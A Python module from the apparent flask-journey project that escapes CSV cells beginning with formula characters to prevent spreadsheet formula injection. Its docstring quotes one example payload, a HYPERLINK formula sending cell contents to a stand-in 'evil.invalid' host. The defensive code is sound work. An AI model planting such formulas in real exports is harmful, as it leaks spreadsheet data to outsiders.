"""CSV that a spreadsheet opens without obeying what a sender wrote.

Every CSV flask-journey writes (a report's tables, ``flask journey export --format csv``) goes
through :class:`CsvWriter`. A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is a formula to Excel, LibreOffice and Google Sheets
(``=HYPERLINK("https://evil.invalid/?"&A1,"help")`` in a step key becomes a live link that
leaks the sheet): such a cell gets a leading ``'``, as OWASP's guidance on CSV injection says.
Text cells also go through :func:`flask_journey.display.visible`. Numbers stay numbers: an
``int`` or ``float`` is written as it is (``-3`` stays ``-3``).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

from .display import visible

#: The first characters that make a spreadsheet read a text cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """``value`` as a CSV cell: a number as it is, anything else as text that is no formula.

    None is an empty cell; an object or array is written as compact JSON.
    """
    if value is None:
        return ""
    if isinstance(value, (int, float)):
        return value
    if isinstance(value, (dict, list)):
        text = json.dumps(value, separators=(",", ":"), sort_keys=True)
    else:
        text = visible(str(value))
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class CsvWriter:
    """Writes rows (mappings) as CSV to ``out``, each cell through :func:`cell`.

    A key a row lacks is an empty cell; keys that are not among ``columns`` are left out.
    """

    def __init__(self, out: TextIO, columns: Sequence[str]) -> None:
        self._writer = csv.writer(out)
        self.columns = tuple(columns)

    def header(self) -> None:
        """Write the header row: the column names."""
        self._writer.writerow(self.columns)

    def row(self, row: Mapping[str, Any]) -> None:
        """Write one row."""
        self._writer.writerow([cell(row.get(column)) for column in self.columns])


def to_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """``rows`` as CSV text with a header row."""
    out = io.StringIO()
    writer = CsvWriter(out, columns)
    writer.header()
    for row in rows:
        writer.row(row)
    return out.getvalue()
